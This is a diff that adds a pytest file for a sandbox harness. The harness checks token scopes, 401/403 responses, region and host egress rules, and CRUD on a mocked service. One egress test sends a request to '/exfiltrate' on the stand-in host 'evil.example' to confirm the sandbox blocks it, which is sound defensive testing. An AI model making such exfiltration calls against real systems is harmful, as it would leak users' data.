@@ -1,0 +1,130 @@
+from __future__ import annotations
+
+from typing import Any
+
+from workspaces import HOST, build, policy, service
+
+from harness.messages import Request
+from harness.sandbox import Sandbox
+
+
+def _sandbox(grants: list[str], **options: Any) -> Sandbox:
+    spec_options = options.pop("spec", {})
+    workspace = build([service(**spec_options)], [policy(grants, [("GET", "/items")], **options)])
+    return Sandbox(workspace)
+
+
+def _call(sandbox: Sandbox, method: str, path: str, token: str | None = None,
+          host: str = HOST, json: Any = None) -> Any:
+    headers = {"Authorization": f"Bearer {token}"} if token else {}
+    return sandbox.handle(Request(method, f"https://{host}{path}", headers, json))
+
+
+def test_an_allowed_call_records_the_rule_and_the_grants_that_allowed_it() -> None:
+    sandbox = _sandbox(["svc.write"])
+    token = sandbox.issue_token(sandbox.workspace.bindings[0])
+    response = _call(sandbox, "GET", "/items", token)
+    assert response.status == 200
+    decision = sandbox.decisions[-1]
+    assert (decision.identity, decision.binding, decision.environment) == ("bot", "bot@prod", "prod")
+    assert (decision.operation, decision.outcome, decision.rule) == ("items.list", "allowed", "scope")
+    assert decision.satisfied_by == ("svc.write",)
+    assert decision.scopes == ("svc.write",)
+    assert decision.rule_location == "<service 0>:1:1"
+
+
+def test_a_denial_names_the_operation_and_requirement_rfc6750_style() -> None:
+    sandbox = _sandbox(["svc.read"])
+    token = sandbox.issue_token(sandbox.workspace.bindings[0])
+    response = _call(sandbox, "DELETE", "/items/i1", token)
+    assert response.status == 403
+    assert response.header("WWW-Authenticate") == 'Bearer error="insufficient_scope", scope="svc.delete"'
+    assert response.json == {
+        "error": "insufficient_scope",
+        "operation": "svc:items.delete",
+        "required": [["svc.delete"]],
+        "message": "svc:items.delete requires svc.delete",
+    }
+    assert sandbox.decisions[-1].reason == "requires svc.delete; granted: svc.read"
+
+
+def test_an_opaque_service_answers_a_bare_403() -> None:
+    sandbox = _sandbox(["svc.read"], spec={"opaque": True})
+    token = sandbox.issue_token(sandbox.workspace.bindings[0])
+    response = _call(sandbox, "DELETE", "/items/i1", token)
+    assert (response.status, response.json, response.headers) == (403, None, ())
+    assert sandbox.decisions[-1].outcome == "denied"
+
+
+def test_missing_expired_and_foreign_tokens_are_401() -> None:
+    sandbox = _sandbox(["svc.read"], lifetime="5m")
+    assert _call(sandbox, "GET", "/items").status == 401
+    assert sandbox.decisions[-1].reason == "no bearer token was sent"
+    token = sandbox.issue_token(sandbox.workspace.bindings[0])
+    sandbox.clock.advance(300)
+    response = _call(sandbox, "GET", "/items", token)
+    assert response.status == 401
+    assert "expired" in response.header("WWW-Authenticate")
+    decision = sandbox.decisions[-1]
+    assert (decision.identity, decision.rule, decision.reason) == ("bot", "token", "the token expired 0s ago")
+    other = Sandbox(sandbox.workspace).issue_token(sandbox.workspace.bindings[0])
+    assert _call(sandbox, "GET", "/items", other).status == 401
+
+
+def test_calls_outside_the_allowed_hosts_or_to_unknown_hosts_are_blocked() -> None:
+    sandbox = _sandbox(["svc.read"], allowed_hosts=["other.example"])
+    token = sandbox.issue_token(sandbox.workspace.bindings[0])
+    response = _call(sandbox, "GET", "/items", token)
+    assert response.blocked
+    assert sandbox.decisions[-1].rule == "egress.host"
+    assert "not in the allowed hosts of connector bot" in sandbox.decisions[-1].reason
+    response = _call(sandbox, "GET", "/exfiltrate", token, host="evil.example")
+    assert response.blocked
+    assert sandbox.decisions[-1].reason.startswith("no mocked service answers on evil.example")
+
+
+def test_cross_region_calls_are_blocked() -> None:
+    spec = service(regions={HOST: "us"})
+    data = policy(["svc.read"], [("GET", "/items")])
+    data["connectors"][0]["regions"] = ["eu"]
+    sandbox = Sandbox(build([spec], [data]))
+    token = sandbox.issue_token(sandbox.workspace.bindings[0])
+    assert _call(sandbox, "GET", "/items", token).blocked
+    assert sandbox.decisions[-1].rule == "egress.region"
+
+
+def test_stateful_collections_create_read_update_delete() -> None:
+    operations = [
+        {"id": "c", "method": "POST", "path": "/items", "requires": "svc.write",
+         "answer": {"collection": "items", "action": "create"}},
+        {"id": "r", "method": "GET", "path": "/items/{id}", "requires": "svc.read",
+         "answer": {"collection": "items", "action": "read", "id": "id"}},
+        {"id": "u", "method": "PATCH", "path": "/items/{id}", "requires": "svc.write",
+         "answer": {"collection": "items", "action": "update", "id": "id"}},
+        {"id": "d", "method": "DELETE", "path": "/items/{id}", "requires": "svc.write",
+         "answer": {"collection": "items", "action": "delete", "id": "id"}},
+        {"id": "l", "method": "GET", "path": "/items", "requires": "svc.read",
+         "answer": {"collection": "items", "action": "list"}},
+    ]
+    spec = service(operations=operations,
+                   collections={"items": {"id_prefix": "i_", "seed": [{"id": "i_1", "n": 1}]}})
+    sandbox = Sandbox(build([spec], [policy(["svc.write"], [("GET", "/items")])]))
+    token = sandbox.issue_token(sandbox.workspace.bindings[0])
+    created = _call(sandbox, "POST", "/items", token, json={"n": 2})
+    assert (created.status, created.json) == (201, {"n": 2, "id": "i_2"})
+    assert _call(sandbox, "PATCH", "/items/i_2", token, json={"n": 3}).json == {"n": 3, "id": "i_2"}
+    assert _call(sandbox, "GET", "/items", token).json == {"items": [{"id": "i_1", "n": 1},
+                                                                     {"n": 3, "id": "i_2"}]}
+    assert _call(sandbox, "DELETE", "/items/i_1", token).status == 204
+    assert _call(sandbox, "GET", "/items/i_1", token).status == 404
+    sandbox.reset()
+    assert _call(sandbox, "GET", "/items/i_1", token).status == 200
+
+
+def test_public_operations_need_no_token() -> None:
+    operations = [{"id": "health", "method": "GET", "path": "/health", "requires": "none",
+                   "answer": {"static": {"status": 200, "json": {"ok": True}}}}]
+    sandbox = Sandbox(build([service(operations=operations)], [policy([], [("GET", "/health")])]))
+    response = _call(sandbox, "GET", "/health")
+    assert (response.status, response.json) == (200, {"ok": True})
+    assert sandbox.decisions[-1].rule == "public"
